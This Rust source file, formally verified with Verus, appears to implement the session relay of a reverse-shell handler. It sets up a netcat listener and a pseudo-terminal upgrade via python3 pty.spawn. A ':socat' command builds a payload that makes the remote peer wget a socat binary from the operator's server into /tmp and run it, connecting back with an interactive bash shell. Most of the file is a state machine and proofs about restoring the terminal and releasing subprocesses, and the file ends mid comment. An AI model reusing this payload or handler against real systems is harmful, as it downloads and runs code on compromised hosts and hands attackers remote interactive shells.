//! The session relay: the operator's command language and the state machine
//! that carries a session from its first connection through an upgrade to
//! its end.
//!
//! The relay owns no process and no terminal. It tells its driver what to do
//! next (start the listener, read a line, write to the channel, switch the
//! terminal, forward bytes) and is told how that went.

use vstd::prelude::*;
use json::JsonValue;
use crate::config::{configured_http_port, default_http_port, json_tree};
use crate::text::{chars_of, decimal, decimal_string, str_eq};

verus! {

/// Milliseconds granted to the remote peer to connect back to the relay.
pub const RECONNECT_GRACE_MS: u64 = 200;

/// The states of a session, with `Connecting` first and `Closed` last.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum SessionState {
    Connecting,
    Interactive,
    UpgradingPty,
    UpgradingRaw,
    Closed,
}

/// What a line of operator input means while the session is interactive.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum LineKind {
    /// `:upgrade`: turn the remote shell into a pseudo-terminal.
    Upgrade,
    /// `:socat`: move the session onto a raw relay channel.
    Socat,
    /// `:quit`: end the session.
    Quit,
    /// Any other line that begins with `:`.
    Unknown,
    /// A line for the remote shell.
    Forward,
}

/// The one thing the driver is asked to do at a time.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum RelayAction {
    /// Start the primary listener with `primary_args`.
    SpawnPrimary,
    /// Read one line of operator input.
    ReadLine,
    /// Write the relay's text to the primary channel.
    WriteLine,
    /// Show the relay's text to the operator as a diagnostic.
    Diagnose,
    /// Tell the operator that the pseudo-terminal upgrade begins.
    Announce,
    /// Write `pty_command` to the primary channel.
    SendPtyCommand,
    /// Resolve the relay binary and start serving it.
    ResolveToolbox,
    /// Start the local raw-relay subprocess with `relay_args`.
    SpawnRelay,
    /// Write the relay's text to the primary channel and flush it.
    SendPayload,
    /// Close the input of the primary channel.
    ClosePrimaryInput,
    /// Wait for `RECONNECT_GRACE_MS`.
    Wait,
    /// Capture the terminal attributes and enter raw mode.
    EnterRaw,
    /// Forward bytes between the operator and the primary channel until
    /// either side closes.
    ForwardPrimary,
    /// Forward bytes between the operator and the relay channel until either
    /// side closes.
    ForwardRelay,
    /// Put back the terminal attributes that `EnterRaw` captured.
    RestoreMode,
    /// Tear the relay channel down and wait for its subprocess to end.
    ReleaseRelay,
    /// Wait for the primary subprocess to end.
    WaitPrimary,
    /// Nothing is left to do; the session's result is `succeeded`.
    Finish,
}

/// Where the relay stands: which action it has asked for and awaits the
/// outcome of.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum RelayStep {
    Spawning,
    Reading,
    Writing,
    Diagnosing,
    PtyAnnounce,
    PtyCommand,
    PtyEnterRaw,
    PtyForward,
    PtyRestore,
    RawResolve,
    RawSpawn,
    RawPayload,
    RawClosePrimary,
    RawWait,
    RawEnterRaw,
    RawForward,
    RawRestore,
    RawRelease,
    Closing,
    Waiting,
    Finished,
}

/// The state that a step belongs to.
pub open spec fn state_of(step: RelayStep) -> SessionState {
    match step {
        RelayStep::Spawning => SessionState::Connecting,
        RelayStep::Reading
        | RelayStep::Writing
        | RelayStep::Diagnosing => SessionState::Interactive,
        RelayStep::PtyAnnounce
        | RelayStep::PtyCommand
        | RelayStep::PtyEnterRaw
        | RelayStep::PtyForward
        | RelayStep::PtyRestore => SessionState::UpgradingPty,
        RelayStep::RawResolve
        | RelayStep::RawSpawn
        | RelayStep::RawPayload
        | RelayStep::RawClosePrimary
        | RelayStep::RawWait
        | RelayStep::RawEnterRaw
        | RelayStep::RawForward
        | RelayStep::RawRestore
        | RelayStep::RawRelease => SessionState::UpgradingRaw,
        RelayStep::Closing | RelayStep::Waiting | RelayStep::Finished => SessionState::Closed,
    }
}

/// The action that a step awaits the outcome of.
pub open spec fn action_for(step: RelayStep) -> RelayAction {
    match step {
        RelayStep::Spawning => RelayAction::SpawnPrimary,
        RelayStep::Reading => RelayAction::ReadLine,
        RelayStep::Writing => RelayAction::WriteLine,
        RelayStep::Diagnosing => RelayAction::Diagnose,
        RelayStep::PtyAnnounce => RelayAction::Announce,
        RelayStep::PtyCommand => RelayAction::SendPtyCommand,
        RelayStep::PtyEnterRaw => RelayAction::EnterRaw,
        RelayStep::PtyForward => RelayAction::ForwardPrimary,
        RelayStep::PtyRestore => RelayAction::RestoreMode,
        RelayStep::RawResolve => RelayAction::ResolveToolbox,
        RelayStep::RawSpawn => RelayAction::SpawnRelay,
        RelayStep::RawPayload => RelayAction::SendPayload,
        RelayStep::RawClosePrimary => RelayAction::ClosePrimaryInput,
        RelayStep::RawWait => RelayAction::Wait,
        RelayStep::RawEnterRaw => RelayAction::EnterRaw,
        RelayStep::RawForward => RelayAction::ForwardRelay,
        RelayStep::RawRestore => RelayAction::RestoreMode,
        RelayStep::RawRelease => RelayAction::ReleaseRelay,
        RelayStep::Closing => RelayAction::ClosePrimaryInput,
        RelayStep::Waiting => RelayAction::WaitPrimary,
        RelayStep::Finished => RelayAction::Finish,
    }
}

/// Whether the terminal is in raw mode while the step's action is awaited:
/// between a successful `EnterRaw` and the `RestoreMode` that follows it.
pub open spec fn raw_during(step: RelayStep) -> bool {
    match step {
        RelayStep::PtyForward
        | RelayStep::PtyRestore
        | RelayStep::RawForward
        | RelayStep::RawRestore => true,
        _ => false,
    }
}

/// Whether the relay subprocess runs while the step's action is awaited.
pub open spec fn relay_during(step: RelayStep) -> bool {
    match step {
        RelayStep::RawPayload
        | RelayStep::RawClosePrimary
        | RelayStep::RawWait
        | RelayStep::RawEnterRaw
        | RelayStep::RawForward
        | RelayStep::RawRestore
        | RelayStep::RawRelease => true,
        _ => false,
    }
}

/// `line` without the line feeds at its end.
pub open spec fn strip_line_feeds(line: Seq<char>) -> Seq<char>
    decreases line.len(),
{
    if line.len() > 0 && line.last() == '\n' {
        strip_line_feeds(line.drop_last())
    } else {
        line
    }
}

pub open spec fn upgrade_word() -> Seq<char> {
    seq![':', 'u', 'p', 'g', 'r', 'a', 'd', 'e']
}

pub open spec fn socat_word() -> Seq<char> {
    seq![':', 's', 'o', 'c', 'a', 't']
}

pub open spec fn quit_word() -> Seq<char> {
    seq![':', 'q', 'u', 'i', 't']
}

/// What a line, already without its line feeds, means. Commands begin with
/// `:` and are matched exactly, case and all.
pub open spec fn classify(line: Seq<char>) -> LineKind {
    if line.len() == 0 || line[0] != ':' {
        LineKind::Forward
    } else if line == upgrade_word() {
        LineKind::Upgrade
    } else if line == socat_word() {
        LineKind::Socat
    } else if line == quit_word() {
        LineKind::Quit
    } else {
        LineKind::Unknown
    }
}

/// The port of the relay channel: one above the listening port, if there is one.
pub open spec fn relay_port_of(port: u16) -> Option<u16> {
    if port < u16::MAX {
        Some((port + 1) as u16)
    } else {
        None
    }
}

/// What is written to the primary channel for a line that is forwarded.
pub open spec fn forward_text(line: Seq<char>) -> Seq<char> {
    line.push('\n')
}

/// What the operator is shown for an unknown command.
pub open spec fn unknown_text(line: Seq<char>) -> Seq<char> {
    "unknown command: "@ + line
}

/// What the operator is shown when the raw relay cannot be set up for want
/// of a port.
pub open spec fn no_port_text() -> Seq<char> {
    "raw relay unavailable: no delivery port or no port above the listener"@
}

/// The command that has the peer fetch the relay binary from port
/// `http_port` of `ip` and run it connecting back to `relay_port`.
pub open spec fn payload_text(ip: Seq<char>, http_port: u16, relay_port: u16) -> Seq<char> {
    "wget -q http://"@ + ip + ":"@ + decimal(http_port as nat)
        + "/socatx64.bin -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:"@
        + ip + ":"@ + decimal(relay_port as nat) + "\n"@
}

/// First argument of the raw-relay program: the terminal it multiplexes.
pub open spec fn relay_file_arg(tty: Seq<char>) -> Seq<char> {
    "file:"@ + tty + ",raw,echo=0"@
}

/// Second argument of the raw-relay program: the port it listens on.
pub open spec fn relay_listen_arg(port: u16) -> Seq<char> {
    "tcp-listen:"@ + decimal(port as nat) + ",reuseaddr,fork"@
}

/// The abstract value of a relay.
pub struct RelayView {
    pub step: RelayStep,
    pub failed: bool,
    pub port: u16,
    pub ip: Seq<char>,
    pub http_port: Option<u16>,
    pub text: Seq<char>,
}

/// The relay after the driver reports a line of input (`Some`) or the end of
/// input (`None`). Only a relay that awaits a line takes note; every other
/// relay stays as it is, so no command is obeyed outside the interactive state.
pub open spec fn after_line(m: RelayView, line: Option<Seq<char>>) -> RelayView {
    if m.step != RelayStep::Reading {
        m
    } else {
        match line {
            None => RelayView { step: RelayStep::Waiting, ..m },
            Some(raw) => {
                let stripped = strip_line_feeds(raw);
                match classify(stripped) {
                    LineKind::Forward => RelayView {
                        step: RelayStep::Writing,
                        text: forward_text(stripped),
                        ..m
                    },
                    LineKind::Unknown => RelayView {
                        step: RelayStep::Diagnosing,
                        text: unknown_text(stripped),
                        ..m
                    },
                    LineKind::Quit => RelayView { step: RelayStep::Closing, ..m },
                    LineKind::Upgrade => RelayView { step: RelayStep::PtyAnnounce, ..m },
                    LineKind::Socat => match (m.http_port, relay_port_of(m.port)) {
                        (Some(http_port), Some(relay_port)) => RelayView {
                            step: RelayStep::RawResolve,
                            text: payload_text(m.ip, http_port, relay_port),
                            ..m
                        },
                        _ => RelayView { step: RelayStep::Diagnosing, text: no_port_text(), ..m },
                    },
                }
            },
        }
    }
}

/// The step that follows `step` when its action succeeded (`ok`) or failed.
/// A failure never skips the restoring of the terminal or the release of the
/// relay subprocess; a relay subprocess that cannot be started sends the
/// session back to the interactive state.
pub open spec fn step_after(step: RelayStep, ok: bool) -> RelayStep {
    match step {
        RelayStep::Spawning => if ok {
            RelayStep::Reading
        } else {
            RelayStep::Finished
        },
        RelayStep::Reading => RelayStep::Reading,
        RelayStep::Writing => if ok {
            RelayStep::Reading
        } else {
            RelayStep::Waiting
        },
        RelayStep::Diagnosing => RelayStep::Reading,
        RelayStep::PtyAnnounce => RelayStep::PtyCommand,
        RelayStep::PtyCommand => if ok {
            RelayStep::PtyEnterRaw
        } else {
            RelayStep::Waiting
        },
        RelayStep::PtyEnterRaw => if ok {
            RelayStep::PtyForward
        } else {
            RelayStep::Waiting
        },
        RelayStep::PtyForward => RelayStep::PtyRestore,
        RelayStep::PtyRestore => RelayStep::Waiting,
        RelayStep::RawResolve => RelayStep::RawSpawn,
        RelayStep::RawSpawn => if ok {
            RelayStep::RawPayload
        } else {
            RelayStep::Reading
        },
        RelayStep::RawPayload => if ok {
            RelayStep::RawClosePrimary
        } else {
            RelayStep::RawRelease
        },
        RelayStep::RawClosePrimary => RelayStep::RawWait,
        RelayStep::RawWait => RelayStep::RawEnterRaw,
        RelayStep::RawEnterRaw => if ok {
            RelayStep::RawForward
        } else {
            RelayStep::RawRelease
        },
        RelayStep::RawForward => RelayStep::RawRestore,
        RelayStep::RawRestore => RelayStep::RawRelease,
        RelayStep::RawRelease => RelayStep::Waiting,
        RelayStep::Closing => RelayStep::Waiting,
        RelayStep::Waiting => RelayStep::Finished,
        RelayStep::Finished => RelayStep::Finished,
    }
}

/// Whether a failure of the step's action makes the whole session a failure.
/// Telling the operator something, resolving the toolbox and starting the
/// relay subprocess may fail without that.
pub open spec fn failure_counts(step: RelayStep) -> bool {
    match step {
        RelayStep::Reading
        | RelayStep::Diagnosing
        | RelayStep::PtyAnnounce
        | RelayStep::RawResolve
        | RelayStep::RawSpawn
        | RelayStep::Finished => false,
        _ => true,
    }
}

/// The relay after the driver reports how the awaited action went.
pub open spec fn after_result(m: RelayView, ok: bool) -> RelayView {
    RelayView {
        step: step_after(m.step, ok),
        failed: m.failed || (!ok && failure_counts(m.step)),
        ..m
    }
}

/// A raw-relay listener on a port, run on its own.
#[derive(Clone, Copy, Debug)]
pub struct Socat {
    pub port: u16,
}

/// The primary listener: its port, the address the peer connects to, and the
/// configuration of the session.
#[derive(Debug)]
pub struct Netcat {
    pub port: u16,
    pub ip: String,
    pub config: JsonValue,
}

/// One operator session.
#[derive(Debug)]
pub struct SessionRelay {
    step: RelayStep,
    failed: bool,
    port: u16,
    ip: String,
    http_port: Option<u16>,
    text: String,
}

impl Socat {
    /// A relay listener on `port`.
    pub fn new(port: u16) -> (r: Socat)
        ensures
            r.port == port,
    {
        Socat { port }
    }

    /// The arguments with which the relay program is started on terminal
    /// `tty`: the terminal in raw mode without echo, then the listener.
    pub fn run(&self, tty: &str) -> (r: Vec<String>)
        ensures
            r.len() == 2,
            r[0]@ == relay_file_arg(tty@),
            r[1]@ == relay_listen_arg(self.port),
    {
        relay_args(tty, self.port)
    }
}

impl Netcat {
    /// A primary listener on `port` for a peer that reaches this machine at `ip`.
    pub fn new(port: u16, config: JsonValue, ip: &str) -> (r: Netcat)
        ensures
            r.port == port,
            r.config == config,
            r.ip@ == ip@,
    {
        Netcat { port, config, ip: ip.to_owned() }
    }

    /// Opens a session: the relay awaits the start of the primary listener,
    /// and delivers on the port that the configuration names, if it names one.
    pub fn run(&self) -> (r: SessionRelay)
        ensures
            r@ == (RelayView {
                step: RelayStep::Spawning,
                failed: false,
                port: self.port,
                ip: self.ip@,
                http_port: configured_http_port(json_tree(self.config)),
                text: Seq::<char>::empty(),
            }),
    {
        SessionRelay {
            step: RelayStep::Spawning,
            failed: false,
            port: self.port,
            ip: self.ip.clone(),
            http_port: default_http_port(&self.config),
            text: String::new(),
        }
    }
}

impl SessionRelay {
    pub closed spec fn view(&self) -> RelayView {
        RelayView {
            step: self.step,
            failed: self.failed,
            port: self.port,
            ip: self.ip@,
            http_port: self.http_port,
            text: self.text@,
        }
    }

    /// The state the session is in.
    pub fn state(&self) -> (r: SessionState)
        ensures
            r == state_of(self@.step),
    {
        match self.step {
            RelayStep::Spawning => SessionState::Connecting,
            RelayStep::Reading
            | RelayStep::Writing
            | RelayStep::Diagnosing => SessionState::Interactive,
            RelayStep::PtyAnnounce
            | RelayStep::PtyCommand
            | RelayStep::PtyEnterRaw
            | RelayStep::PtyForward
            | RelayStep::PtyRestore => SessionState::UpgradingPty,
            RelayStep::RawResolve
            | RelayStep::RawSpawn
            | RelayStep::RawPayload
            | RelayStep::RawClosePrimary
            | RelayStep::RawWait
            | RelayStep::RawEnterRaw
            | RelayStep::RawForward
            | RelayStep::RawRestore
            | RelayStep::RawRelease => SessionState::UpgradingRaw,
            RelayStep::Closing | RelayStep::Waiting | RelayStep::Finished => SessionState::Closed,
        }
    }

    /// The action whose outcome the relay awaits.
    pub fn action(&self) -> (r: RelayAction)
        ensures
            r == action_for(self@.step),
    {
        match self.step {
            RelayStep::Spawning => RelayAction::SpawnPrimary,
            RelayStep::Reading => RelayAction::ReadLine,
            RelayStep::Writing => RelayAction::WriteLine,
            RelayStep::Diagnosing => RelayAction::Diagnose,
            RelayStep::PtyAnnounce => RelayAction::Announce,
            RelayStep::PtyCommand => RelayAction::SendPtyCommand,
            RelayStep::PtyEnterRaw => RelayAction::EnterRaw,
            RelayStep::PtyForward => RelayAction::ForwardPrimary,
            RelayStep::PtyRestore => RelayAction::RestoreMode,
            RelayStep::RawResolve => RelayAction::ResolveToolbox,
            RelayStep::RawSpawn => RelayAction::SpawnRelay,
            RelayStep::RawPayload => RelayAction::SendPayload,
            RelayStep::RawClosePrimary => RelayAction::ClosePrimaryInput,
            RelayStep::RawWait => RelayAction::Wait,
            RelayStep::RawEnterRaw => RelayAction::EnterRaw,
            RelayStep::RawForward => RelayAction::ForwardRelay,
            RelayStep::RawRestore => RelayAction::RestoreMode,
            RelayStep::RawRelease => RelayAction::ReleaseRelay,
            RelayStep::Closing => RelayAction::ClosePrimaryInput,
            RelayStep::Waiting => RelayAction::WaitPrimary,
            RelayStep::Finished => RelayAction::Finish,
        }
    }

    /// The text that goes with `WriteLine`, `Diagnose` and `SendPayload`.
    pub fn text(&self) -> (r: &str)
        ensures
            r@ == self@.text,
    {
        self.text.as_str()
    }

    /// Whether the session has come to its end without a failure that counts.
    pub fn succeeded(&self) -> (r: bool)
        ensures
            r == (self@.step == RelayStep::Finished && !self@.failed),
    {
        match self.step {
            RelayStep::Finished => !self.failed,
            _ => false,
        }
    }

    /// The port on which the relay subprocess listens, if there is one above
    /// the primary listener's.
    pub fn relay_port(&self) -> (r: Option<u16>)
        ensures
            r == relay_port_of(self@.port),
    {
        if self.port < u16::MAX {
            Some(self.port + 1)
        } else {
            None
        }
    }

    /// Takes in a line of operator input, or the end of input, and says what
    /// to do next.
    pub fn on_line(&mut self, line: Option<&str>) -> (r: RelayAction)
        ensures
            final(self)@ == after_line(
                old(self)@,
                match line {
                    Some(l) => Some(l@),
                    None => None,
                },
            ),
            r == action_for(final(self)@.step),
    {
        match self.step {
            RelayStep::Reading => {
                match line {
                    None => {
                        self.step = RelayStep::Waiting;
                    },
                    Some(raw) => {
                        let (kind, stripped) = classify_line(raw);
                        match kind {
                            LineKind::Forward => {
                                let mut text = stripped;
                                proof {
                                    reveal_strlit("\n");
                                }
                                text.append("\n");
                                assert(text@ =~= forward_text(strip_line_feeds(raw@)));
                                self.text = text;
                                self.step = RelayStep::Writing;
                            },
                            LineKind::Unknown => {
                                let mut text = "unknown command: ".to_owned();
                                text.append(stripped.as_str());
                                self.text = text;
                                self.step = RelayStep::Diagnosing;
                            },
                            LineKind::Quit => {
                                self.step = RelayStep::Closing;
                            },
                            LineKind::Upgrade => {
                                self.step = RelayStep::PtyAnnounce;
                            },
                            LineKind::Socat => {
                                let relay_port = self.relay_port();
                                match (self.http_port, relay_port) {
                                    (Some(http_port), Some(relay_port)) => {
                                        let text = payload(
                                            self.ip.as_str(),
                                            http_port,
                                            relay_port,
                                        );
                                        self.text = text;
                                        self.step = RelayStep::RawResolve;
                                    },
                                    _ => {
                                        self.text =
                                        "raw relay unavailable: no delivery port or no port above the listener".to_owned();
                                        self.step = RelayStep::Diagnosing;
                                    },
                                }
                            },
                        }
                    },
                }
            },
            _ => {},
        }
        self.action()
    }

    /// Takes in how the awaited action went and says what to do next.
    pub fn on_result(&mut self, ok: bool) -> (r: RelayAction)
        ensures
            final(self)@ == after_result(old(self)@, ok),
            r == action_for(final(self)@.step),
    {
        let counts = match self.step {
            RelayStep::Reading
            | RelayStep::Diagnosing
            | RelayStep::PtyAnnounce
            | RelayStep::RawResolve
            | RelayStep::RawSpawn
            | RelayStep::Finished => false,
            _ => true,
        };
        let next = match self.step {
            RelayStep::Spawning => if ok {
                RelayStep::Reading
            } else {
                RelayStep::Finished
            },
            RelayStep::Reading => RelayStep::Reading,
            RelayStep::Writing => if ok {
                RelayStep::Reading
            } else {
                RelayStep::Waiting
            },
            RelayStep::Diagnosing => RelayStep::Reading,
            RelayStep::PtyAnnounce => RelayStep::PtyCommand,
            RelayStep::PtyCommand => if ok {
                RelayStep::PtyEnterRaw
            } else {
                RelayStep::Waiting
            },
            RelayStep::PtyEnterRaw => if ok {
                RelayStep::PtyForward
            } else {
                RelayStep::Waiting
            },
            RelayStep::PtyForward => RelayStep::PtyRestore,
            RelayStep::PtyRestore => RelayStep::Waiting,
            RelayStep::RawResolve => RelayStep::RawSpawn,
            RelayStep::RawSpawn => if ok {
                RelayStep::RawPayload
            } else {
                RelayStep::Reading
            },
            RelayStep::RawPayload => if ok {
                RelayStep::RawClosePrimary
            } else {
                RelayStep::RawRelease
            },
            RelayStep::RawClosePrimary => RelayStep::RawWait,
            RelayStep::RawWait => RelayStep::RawEnterRaw,
            RelayStep::RawEnterRaw => if ok {
                RelayStep::RawForward
            } else {
                RelayStep::RawRelease
            },
            RelayStep::RawForward => RelayStep::RawRestore,
            RelayStep::RawRestore => RelayStep::RawRelease,
            RelayStep::RawRelease => RelayStep::Waiting,
            RelayStep::Closing => RelayStep::Waiting,
            RelayStep::Waiting => RelayStep::Finished,
            RelayStep::Finished => RelayStep::Finished,
        };
        if !ok && counts {
            self.failed = true;
        }
        self.step = next;
        self.action()
    }
}

/// The command that turns the remote shell into a pseudo-terminal.
pub fn pty_command() -> (r: &'static str)
    ensures
        r@ == "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n"@,
{
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n"
}

/// The arguments with which the primary listener is started on `port`.
pub fn primary_args(port: u16) -> (r: Vec<String>)
    ensures
        r.len() == 2,
        r[0]@ == "-lnvp"@,
        r[1]@ == decimal(port as nat),
{
    let mut args: Vec<String> = Vec::new();
    args.push("-lnvp".to_owned());
    args.push(decimal_string(port as usize));
    args
}

/// The arguments with which the raw-relay program is started on terminal
/// `tty` and `port`.
pub fn relay_args(tty: &str, port: u16) -> (r: Vec<String>)
    ensures
        r.len() == 2,
        r[0]@ == relay_file_arg(tty@),
        r[1]@ == relay_listen_arg(port),
{
    let mut file = "file:".to_owned();
    file.append(tty);
    file.append(",raw,echo=0");
    let mut listen = "tcp-listen:".to_owned();
    listen.append(decimal_string(port as usize).as_str());
    listen.append(",reuseaddr,fork");
    let mut args: Vec<String> = Vec::new();
    args.push(file);
    args.push(listen);
    args
}

/// Builds the command sent to the peer when the session moves to the relay.
pub fn payload(ip: &str, http_port: u16, relay_port: u16) -> (r: String)
    ensures
        r@ == payload_text(ip@, http_port, relay_port),
{
    let mut r = "wget -q http://".to_owned();
    r.append(ip);
    r.append(":");
    r.append(decimal_string(http_port as usize).as_str());
    r.append(
        "/socatx64.bin -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:",
    );
    r.append(ip);
    r.append(":");
    r.append(decimal_string(relay_port as usize).as_str());
    r.append("\n");
    r
}

/// Strips the line feeds off the end of a line and tells what the rest means.
pub fn classify_line(line: &str) -> (r: (LineKind, String))
    ensures
        r.1@ == strip_line_feeds(line@),
        r.0 == classify(strip_line_feeds(line@)),
{
    let chars = chars_of(line);
    let mut end: usize = chars.len();
    assert(chars@.take(end as int) =~= chars@);
    while end > 0 && chars[end - 1] == '\n'
        invariant
            end <= chars.len(),
            chars@ == line@,
            strip_line_feeds(chars@.take(end as int)) == strip_line_feeds(line@),
        decreases end,
    {
        assert(chars@.take(end as int).drop_last() =~= chars@.take(end - 1));
        end -= 1;
    }
    assert(line@.subrange(0, end as int) =~= line@.take(end as int));
    let stripped = line.substring_char(0, end).to_owned();
    proof {
        reveal_strlit(":upgrade");
        reveal_strlit(":socat");
        reveal_strlit(":quit");
        assert(":upgrade"@ =~= upgrade_word());
        assert(":socat"@ =~= socat_word());
        assert(":quit"@ =~= quit_word());
    }
    let kind = if end == 0 || chars[0] != ':' {
        LineKind::Forward
    } else if str_eq(stripped.as_str(), ":upgrade") {
        LineKind::Upgrade
    } else if str_eq(stripped.as_str(), ":socat") {
        LineKind::Socat
    } else if str_eq(stripped.as_str(), ":quit") {
        LineKind::Quit
    } else {
        LineKind::Unknown
    };
    (kind, stripped)
}

/// The result that running the relay listener on its own ends in: success
/// exactly when the program exited with success.
pub fn relay_outcome(exited_ok: bool) -> (r: Result<(), ()>)
    ensures
        r is Ok == exited_ok,
{
    if exited_ok {
        Ok(())
    } else {
        Err(())
    }
}

/// What a forwarding loop reports: how a read of the operator's input or a
/// write to the channel went.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum ForwardEvent {
    /// A read gave `count` bytes; none at the end of input.
    Read { count: usize },
    /// A read failed.
    ReadFailed,
    /// The bytes read last were written out in full.
    Written,
    /// A write failed: the peer has closed the channel.
    WriteFailed,
}

/// What a forwarding loop does next.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum ForwardAction {
    /// Read more of the operator's input.
    Read,
    /// Write the bytes just read to the channel, every one as it is.
    Write,
    /// End the forwarding; nothing went wrong.
    Stop,
    /// End the forwarding and report the failed read.
    Fail,
}

/// What follows a report in a forwarding loop. Bytes that were read are
/// written and the next are read; the end of input and a peer that has
/// closed end the loop without an error; only a read that failed is one.
pub open spec fn forward_next(event: ForwardEvent) -> ForwardAction {
    match event {
        ForwardEvent::Read { count } => if count == 0 {
            ForwardAction::Stop
        } else {
            ForwardAction::Write
        },
        ForwardEvent::ReadFailed => ForwardAction::Fail,
        ForwardEvent::Written => ForwardAction::Read,
        ForwardEvent::WriteFailed => ForwardAction::Stop,
    }
}

/// Decides what a forwarding loop does next.
pub fn forward_step(event: ForwardEvent) -> (r: ForwardAction)
    ensures
        r == forward_next(event),
{
    match event {
        ForwardEvent::Read { count } => if count == 0 {
            ForwardAction::Stop
        } else {
            ForwardAction::Write
        },
        ForwardEvent::ReadFailed => ForwardAction::Fail,
        ForwardEvent::Written => ForwardAction::Read,
        ForwardEvent::WriteFailed => ForwardAction::Stop,
    }
}

/// What a driver reports to a relay.
pub ghost enum RelayEvent {
    /// A line of operator input, or the end of input.
    Line(Option<Seq<char>>),
    /// How the awaited action went.
    Outcome(bool),
}

/// The relay after one report.
pub open spec fn relay_after(m: RelayView, event: RelayEvent) -> RelayView {
    match event {
        RelayEvent::Line(line) => after_line(m, line),
        RelayEvent::Outcome(ok) => after_result(m, ok),
    }
}

/// The relay after a run of reports.
pub open spec fn relay_run(m: RelayView, events: Seq<RelayEvent>) -> RelayView
    decreases events.len(),
{
    if events.len() == 0 {
        m
    } else {
        relay_after(relay_run(m, events.drop_last()), events.last())
    }
}

/// Whether a report tells that the action `action`, then awaited, was
/// carried out: with success where `must_succeed`, with any outcome otherwise.
pub open spec fn reports(
    m: RelayView,
    event: RelayEvent,
    action: RelayAction,
    must_succeed: bool,
) -> bool {
    action_for(m.step) == action && match event {
        RelayEvent::Outcome(ok) => ok || !must_succeed,
        RelayEvent::Line(line) => false,
    }
}

/// How often along a run of reports the action `action` was carried out.
pub open spec fn times_done(
    m: RelayView,
    events: Seq<RelayEvent>,
    action: RelayAction,
    must_succeed: bool,
) -> nat
    decreases events.len(),
{
    if events.len() == 0 {
        0
    } else {
        let before = relay_run(m, events.drop_last());
        let earlier = times_done(m, events.drop_last(), action, must_succeed);
        if reports(before, events.last(), action, must_succeed) {
            earlier + 1
        } else {
            earlier
        }
    }
}

/// Whether raw mode can still be entered from a step: the session has not
/// got past the `EnterRaw` of an upgrade.
pub open spec fn raw_ahead(step: RelayStep) -> bool {
    match step {
        RelayStep::Spawning
        | RelayStep::Reading
        | RelayStep::Writing
        | RelayStep::Diagnosing
        | RelayStep::PtyAnnounce
        | RelayStep::PtyCommand
        | RelayStep::PtyEnterRaw
        | RelayStep::RawResolve
        | RelayStep::RawSpawn
        | RelayStep::RawPayload
        | RelayStep::RawClosePrimary
        | RelayStep::RawWait
        | RelayStep::RawEnterRaw => true,
        _ => false,
    }
}

/// Over a whole session, from its opening through any run of reports, raw
/// mode is entered at most once, and every time it was entered the terminal
/// is restored exactly once: the restoring is still to come while raw mode
/// lasts, and was done once it is over. A session that is closed has
/// restored the terminal as often as it entered raw mode.
pub proof fn law_every_raw_mode_is_left_once(m: RelayView, events: Seq<RelayEvent>)
    requires
        m.step == RelayStep::Spawning,
    ensures
        ({
            let end = relay_run(m, events);
            let entered = times_done(m, events, RelayAction::EnterRaw, true);
            let restored = times_done(m, events, RelayAction::RestoreMode, false);
            &&& entered <= 1
            &&& entered == restored + (if raw_during(end.step) {
                1nat
            } else {
                0nat
            })
            &&& state_of(end.step) == SessionState::Closed ==> entered == restored
            &&& raw_ahead(end.step) ==> entered == 0
        }),
    decreases events.len(),
{
    if events.len() > 0 {
        law_every_raw_mode_is_left_once(m, events.drop_last());
    }
}

/// Whether the relay subprocess can still be started from a step.
pub open spec fn relay_ahead(step: RelayStep) -> bool {
    match step {
        RelayStep::Spawning
        | RelayStep::Reading
        | RelayStep::Writing
        | RelayStep::Diagnosing
        | RelayStep::RawResolve
        | RelayStep::RawSpawn => true,
        _ => false,
    }
}

/// Over a whole session the relay subprocess is started at most once, and
/// once it was started it is released exactly once, whatever fails in
/// between: the release is still to come while the subprocess runs, and was
/// done once the session is closed.
pub proof fn law_every_relay_is_released_once(m: RelayView, events: Seq<RelayEvent>)
    requires
        m.step == RelayStep::Spawning,
    ensures
        ({
            let end = relay_run(m, events);
            let started = times_done(m, events, RelayAction::SpawnRelay, true);
            let released = times_done(m, events, RelayAction::ReleaseRelay, false);
            &&& started <= 1
            &&& started == released + (if relay_during(end.step) {
                1nat
            } else {
                0nat
            })
            &&& state_of(end.step) == SessionState::Closed ==> started == released
            &&& relay_ahead(end.step) ==> started == 0
        }),
    decreases events.len(),
{
    if events.len() > 0 {
        law_every_relay_is_released_once(m, events.drop_last());
    }
}

/// The session's states follow one another in one direction: a step never
/// leads back to `Connecting`, an upgrade is entered only from `Interactive`
/// and left only for `Closed` (or, where the relay subprocess could not be
/// started, for `Interactive`), and `Closed` is never left.
pub proof fn law_states_in_order(m: RelayView, ok: bool, line: Option<Seq<char>>)
    ensures
        state_of(after_result(m, ok).step) != SessionState::Connecting,
        state_of(after_line(m, line).step) == SessionState::Connecting ==> state_of(m.step)
            == SessionState::Connecting,
        state_of(m.step) == SessionState::Closed ==> state_of(after_result(m, ok).step)
            == SessionState::Closed && after_line(m, line) == m,
        state_of(m.step) == SessionState::UpgradingPty ==> state_of(after_result(m, ok).step)
            == SessionState::UpgradingPty || state_of(after_result(m, ok).step)
            == SessionState::Closed,
        state_of(m.step) == SessionState::UpgradingRaw ==> state_of(after_result(m, ok).step)
            == SessionState::UpgradingRaw || state_of(after_result(m, ok).step)
            == SessionState::Closed || (m.step == RelayStep::RawSpawn && !ok && after_result(
            m,
            ok,
        ).step == RelayStep::Reading),
{
}

/// Lines are read for commands in the interactive state alone: in every
/// other state a line changes nothing, whatever it says.
pub proof fn law_commands_only_when_interactive(m: RelayView, line: Option<Seq<char>>)
    requires
        m.step != RelayStep::Reading,
    ensures
        after_line(m, line) == m,
{
}

/// The terminal is in raw mode exactly from a successful `EnterRaw` to the
/// `RestoreMode` that follows it: raw mode begins only there, whatever
/// happens while it lasts the next thing asked for is the forwarding or the
/// restoring, and the session is never closed while it lasts.
